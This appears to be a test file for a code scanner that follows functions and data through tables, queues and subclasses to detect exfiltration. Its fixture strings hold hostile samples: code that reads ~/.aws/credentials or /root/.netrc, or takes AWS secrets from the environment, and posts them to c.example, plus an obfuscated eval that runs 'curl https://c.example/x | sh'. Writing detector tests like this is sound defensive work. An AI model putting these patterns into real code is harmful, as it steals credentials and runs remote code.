@@ -1,0 +1,82 @@
+"""Functions and texts that go through tables, queues and subclasses on their way to where they are used."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.test_code_padding import followed, found
+
+_HEAD = """\
+import bisect, collections, copy, heapq, os, requests, types
+def plain(x): return x
+def sent(x): requests.post("https://c.example/x", data=x)
+KEYS = os.path.expanduser("~/.aws/credentials")
+"""
+WAYS = [
+    "T = {1: plain, 2: sent}\nT[2]({})",
+    "T = {('a', 1): plain, ('a', 2): sent}\nT['a', 2]({})",
+    "T = {b's': sent}\nT[b's']({})",
+    "T = {1: plain}\nT[2] = sent\nT[2]({})",
+    "T = {'a': plain} | {'s': sent}\nT['s']({})",
+    "T = {n: f for n, f in enumerate([plain, sent])}\nT[1]({})",
+    "T = {**{1: plain}, 2: sent}\nT[2]({})",
+    "T = dict.fromkeys(['a', 'b'], sent)\nT['b']({})",
+    "T = copy.deepcopy({'s': sent})\nT['s']({})",
+    "T = collections.defaultdict(list)\nT['x'].append(sent)\nfor f in T['x']:\n    f({})",
+    "T = collections.OrderedDict([('s', sent)])\nT.popitem()[1]({})",
+    "T = []\nheapq.heappush(T, (1, sent))\nheapq.heappop(T)[1]({})",
+    "T = []\nbisect.insort(T, sent, key=id)\nT[0]({})",
+    "for f in filter(callable, [1, plain, sent]):\n    f({})",
+]
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_a_function_is_found_again_in_what_it_was_put_into(way: str) -> None:
+    assert "sends credential-file" in found(followed(_HEAD + way.replace("{}", "open(KEYS).read()") + "\n"))
+    assert "sends credential-file" not in found(followed(_HEAD + way.replace("{}", "'nothing'") + "\n"))
+
+
+NAMES = [
+    "t = 'abcd'.translate({97: 101} | {ord(a): b for a, b in zip('bcd', 'val')})",
+    "d = {ord(a): b for a, b in zip('abcd', 'eval')}\nt = ''.join(d[ord(x)] for x in 'abcd')",
+    "d = {1: 'e', 2: 'v', 3: 'a'}\nd[4] = 'l'\nt = ''.join(d[i] for i in (1, 2, 3, 4))",
+    "d = {}\nd.update({1: 'e', 2: 'v', 3: 'a', 4: 'l'})\nt = ''.join(d[i] for i in (1, 2, 3, 4))",
+]
+
+
+@pytest.mark.parametrize("made", NAMES)
+def test_a_name_is_put_together_from_tables_of_any_keys(made: str) -> None:
+    text = f"import builtins\n{made}\ngetattr(builtins, t)(\"__import__('os').system('curl https://c.example/x | sh')\")\n"
+    assert "runs-downloaded received" in found(followed(text))
+
+
+_BASE = """\
+import os, requests
+from abc import ABC, abstractmethod
+class Job(ABC):
+    kind = ""
+    def __init__(self):
+        self.token = os.environ.get(self.kind)
+    @abstractmethod
+    def collected(self): ...
+    def run(self):
+        requests.post("https://c.example/x", data=self.collected())
+"""
+
+
+@pytest.mark.parametrize(("collected", "is_told"), [("open('/root/.netrc').read()", True), ("'nothing'", False)])
+def test_what_a_subclass_gives_an_inherited_method_is_followed(collected: str, is_told: bool) -> None:
+    text = f"{_BASE}class Own(Job):\n    def collected(self):\n        return {collected}\n"
+    assert ("sends credential-file" in found(followed(text))) is is_told
+
+
+def test_what_an_inherited_constructor_makes_of_the_attributes_of_a_subclass_is_followed() -> None:
+    told = "    def told(self):\n        requests.post('https://c.example/x', data=self.token)\n"
+    text = f"{_BASE}{told}class Own(Job):\n    kind = {{!r}}\n"
+    assert "sends foreign-secret" in found(followed(text.format("AWS_SECRET_ACCESS_KEY")))
+    assert "sends foreign-secret" not in found(followed(text.format("LANG")))
+
+
+def test_of_many_subclasses_it_is_said_that_some_were_not_followed() -> None:
+    heirs = "".join(f"class Own{n}(Job):\n    def collected(self):\n        return os.environ\n" for n in range(70))
+    assert "too much to follow" in followed(_BASE + heirs).stopped
